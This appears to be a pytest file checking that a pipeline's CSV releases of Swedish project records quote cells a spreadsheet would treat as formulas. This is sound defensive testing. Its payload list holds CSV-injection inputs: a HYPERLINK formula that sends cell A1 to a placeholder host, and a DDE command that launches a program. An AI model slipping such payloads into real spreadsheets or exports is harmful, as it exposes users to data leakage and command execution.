"""Every CSV a release holds neutralises cells a spreadsheet would run as formulas."""

import csv
from pathlib import Path

import pytest
import yaml

from pipeline.config import Settings
from pipeline.csvsafe import FORMULA_TRIGGERS, neutralise_cell
from pipeline.run import run_pipeline

PAYLOADS = ('=HYPERLINK("http://x"&A1,"klick")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\tx", "\rx")
# Names a file may carry on disk (no '/', no NUL): one per trigger character.
FILE_NAMES = ("=HYPERLINK(x).txt", "+cmd calc.txt", "@SUM(1).txt", "-2+3.txt", "\tx.txt",
              "\rx.txt")
BODY = ("Syfte\n\nAtt ge nyanlända fler tillfällen att tala svenska i vardagen, varje vecka på "
        "biblioteket tillsammans med volontärer från hela staden.\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_quote_in_front(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Språkcafé", "'=already quoted", "a=b", "", None, 3])
def test_a_plain_cell_is_written_as_it_is(value):
    assert neutralise_cell(value) == value


def form_export(payloads: tuple[str, ...]) -> bytes:
    """A form export (CSV) with a payload in the title and organisation column of each row."""
    rows = [{"Projektets namn": payload, "Organisation": payload, "Syfte": BODY.split("\n")[2]}
            for payload in payloads]
    lines = [",".join(rows[0])]
    for row in rows:
        lines.append(",".join('"' + value.replace('"', '""') + '"' for value in row.values()))
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


@pytest.fixture(scope="module")
def release(tmp_path_factory) -> Path:
    """A release whose every CSV column could carry a payload: forms, labels, corrections."""
    work = tmp_path_factory.mktemp("csvsafety")
    raw = work / "raw"
    raw.mkdir()
    (raw / "export.csv").write_bytes(form_export(PAYLOADS))
    for n, payload in enumerate(PAYLOADS):
        text = f"Projektets namn: Projekt {n}\nOrganisation: {payload}\n\n{BODY}"
        (raw / f"org{n}.txt").write_text(text, encoding="utf-8")
    for n, name in enumerate(FILE_NAMES):  # distinct texts: a repeated text is published once
        (raw / name).write_text(f"Projektets namn: Fil {n}\n\n{BODY}", encoding="utf-8")
    corrections = work / "corrections"
    corrections.mkdir()
    (corrections / "fixes.yaml").write_text(yaml.safe_dump(
        [{"file": f"org{n}.txt", "title": f"Projekt {n}", "field": "purpose", "value": payload}
         for n, payload in enumerate(PAYLOADS)], allow_unicode=True), encoding="utf-8")
    settings = Settings()
    settings.raw_dir, settings.out_dir, settings.translate = raw, work / "out", False
    settings.corrections_dir = corrections
    run_pipeline(settings)
    return (work / "out" / "latest").resolve()


def every_csv(release: Path) -> list[Path]:
    return sorted(release.rglob("*.csv"))


def test_the_release_writes_the_csvs_it_promises(release):
    names = [str(path.relative_to(release)) for path in every_csv(release)]
    assert names == ["clusters.csv", "contacts.csv", "initiatives.csv", "organisations.csv",
                     "outcomes.csv", "public/clusters.csv", "public/initiatives.csv",
                     "public/organisations.csv", "public/outcomes.csv",
                     "public/text_fields.csv", "review.csv", "text_fields.csv"]


def test_no_cell_of_any_csv_starts_a_formula(release):
    for path in every_csv(release):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.DictReader(handle):
                bad = {key: value for key, value in row.items()
                       if value and value.startswith(FORMULA_TRIGGERS)}
                assert not bad, (path.name, bad)


# Extraction trims a value's surrounding whitespace, so only file names keep a leading tab or CR.
@pytest.mark.parametrize("column, triggers", [
    ("title", "=+-@"), ("organisations", "=+-@"), ("purpose", "=+-@"),
    ("source_file", "".join(FORMULA_TRIGGERS)),
])
def test_every_payload_reaches_the_csv_quoted(release, column, triggers):
    with (release / "initiatives.csv").open(encoding="utf-8", newline="") as handle:
        values = [row[column] for row in csv.DictReader(handle)]
    quoted = {value[1] for value in values if value.startswith("'")}
    assert quoted == set(triggers), (column, values)


def test_the_review_queue_quotes_file_names(release):
    with (release / "review.csv").open(encoding="utf-8", newline="") as handle:
        files = {row["file"] for row in csv.DictReader(handle)}
    assert {"'" + name for name in FILE_NAMES} <= files
